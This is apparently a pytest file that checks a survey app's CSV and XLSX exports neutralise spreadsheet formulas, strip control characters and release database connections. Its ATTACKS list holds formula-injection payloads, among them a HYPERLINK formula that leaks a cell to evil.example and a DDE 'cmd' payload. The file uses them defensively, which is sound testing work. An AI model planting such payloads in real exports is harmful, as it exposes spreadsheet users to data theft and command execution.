"""Exports are safe to open and never exhaust the database: formulas neutralised, control
characters stripped (CSV and XLSX, every text column), no connection left in a transaction."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import text
from sqlmodel import select

from app.db import new_session
from app.exports import cell
from app.instruments import active_versions
from app.models import Store
from app.responses import create_scored_response
from tests.test_dashboard import fetch, seed_responses

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tstarts with a tab",
    "＝全角等号",
    "nul\x00inside and a bell\x07 and an escape\x1b[31m",
]


def _answer_texts(app, texts: list[str], store_code: str = "E1") -> None:
    """Customer answers (counted) carrying these comments, stored through the app's write path."""
    with app.app_context(), new_session() as session:
        version = next(v for v in active_versions(session)
                       if v.kind == "customer_survey" and v.stage == "sales")
        store = session.exec(select(Store).where(Store.code == store_code)).one()
        for i, comment in enumerate(texts):
            create_scored_response(
                session, version=version, store=store,
                raw_answers={"overall_satisfaction": 3, "comment": comment}, channel="qr",
                status="submitted", day=date.today() - timedelta(days=1 + i))
        session.commit()


def _csv_cells(client) -> list[str]:
    data = fetch(client, "/manager/export/responses.csv?kind=customer_survey").get_data(as_text=True)
    return [value for row in csv.reader(io.StringIO(data.lstrip("\ufeff"))) for value in row]


def _xlsx_cells(client) -> list:
    reply = fetch(client, "/manager/export/responses.xlsx?kind=customer_survey")
    assert reply.status_code == 200
    book = load_workbook(io.BytesIO(reply.data))
    return [c for row in book.active.iter_rows() for c in row]


def _dangerous(value: str) -> bool:
    """Would a spreadsheet read this text as a formula? (A plain number like -3.5 runs nothing.)"""
    if value[:1] not in ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"):
        return False
    return not re.fullmatch(r"[+-]?\d+(\.\d+)?", value)


def test_formulas_in_customer_text_are_plain_text_in_the_csv(app, client, auth):
    _answer_texts(app, ATTACKS)
    auth.as_role("manager")
    cells = _csv_cells(client)
    assert not [c for c in cells if _dangerous(c)]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells
    assert "nulinside and a bell and an escape[31m" in cells  # the words stay, the controls go


def test_formulas_in_customer_text_are_not_formulas_in_the_xlsx(app, client, auth):
    _answer_texts(app, ATTACKS)
    auth.as_role("manager")
    cells = _xlsx_cells(client)
    assert not [c.value for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if isinstance(c.value, str) and _dangerous(c.value)]
    assert "'@SUM(1+1)" in [c.value for c in cells]


def test_a_control_character_no_longer_breaks_the_xlsx_export(app, client, auth):
    """Finding 4: one comment with \\x00 made every XLSX export of the store a 500."""
    _answer_texts(app, ["ok", "bad\x00one", "form\x0cfeed", "vertical\x0btab"])
    auth.as_role("manager")
    values = [c.value for c in _xlsx_cells(client)]
    assert {"badone", "formfeed", "verticaltab"} <= set(values)


def test_the_ranking_export_goes_through_the_same_sanitiser(app, client, auth):
    seed_responses(app)
    auth.as_role("manager")
    data = fetch(client, "/manager/export/ranking.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(data.lstrip("\ufeff"))))
    assert rows[1][1] == "greeting"  # ordinary text and numbers are untouched
    assert any(c.startswith("-") for row in rows for c in row)  # gaps below target
    assert not [c for row in rows for c in row if _dangerous(c)]


def test_numbers_stay_numbers():
    assert cell(-3) == -3 and cell(2.5) == 2.5 and cell(None) is None
    assert cell("-3") == "-3" and cell("+86.5") == "+86.5"  # a plain number runs nothing
    assert cell("上海一店") == "上海一店"
    assert cell("line one\r\nline two") == "line one\nline two"


@given(st.text())
def test_no_text_leaves_the_sanitiser_as_a_formula_or_with_a_control_character(value):
    out = cell(value)
    assert not any(ord(ch) < 32 and ch != "\n" for ch in out)
    assert not any(0x7f <= ord(ch) <= 0x9f or 0xd800 <= ord(ch) <= 0xdfff for ch in out)
    assert not _dangerous(out)


def _idle_in_transaction(app) -> int:
    with app.extensions["engine"].connect() as connection:
        return connection.execute(text(
            "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() "
            "AND state LIKE 'idle in transaction%'")).scalar_one()


@pytest.mark.parametrize("what", ["responses", "ranking"])
def test_streamed_exports_give_their_database_connection_back(app, client, auth, what):
    """Finding 2: each CSV export left a connection idle in a transaction; ~15 emptied the pool
    and every later request waited 30 s and failed."""
    seed_responses(app)
    auth.as_role("manager")
    engine = app.extensions["engine"]
    for _ in range(20):  # more than the pool's 5 + 10 overflow
        assert fetch(client, f"/manager/export/{what}.csv").status_code == 200
    assert engine.pool.checkedout() == 0
    if engine.dialect.name == "postgresql":
        assert _idle_in_transaction(app) == 0
    assert client.get("/manager/").status_code == 200


def test_an_abandoned_download_gives_its_connection_back(app, client, auth):
    seed_responses(app)
    auth.as_role("manager")
    engine = app.extensions["engine"]
    for _ in range(3):
        reply = client.get("/manager/export/responses.csv")
        next(iter(reply.response))  # the first bytes, then the client goes away
        reply.close()
    assert engine.pool.checkedout() == 0
